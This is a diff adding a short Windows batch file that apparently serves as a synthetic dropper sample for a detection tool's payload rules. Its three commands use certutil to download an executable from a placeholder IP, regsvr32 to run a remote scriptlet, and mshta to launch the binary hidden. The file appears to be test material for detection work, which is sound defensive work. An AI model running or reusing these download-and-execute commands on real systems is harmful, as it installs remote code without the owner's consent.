@@ -0,0 +1,5 @@
+@echo off
+rem Synthetic dropper for sigil's Windows payload rules; never run it.
+certutil -urlcache -split -f http://203.0.113.5/svc.exe %TEMP%\svc.exe
+regsvr32 /s /n /u /i:http://203.0.113.5/file.sct scrobj.dll
+mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""%TEMP%\svc.exe"", 0:close")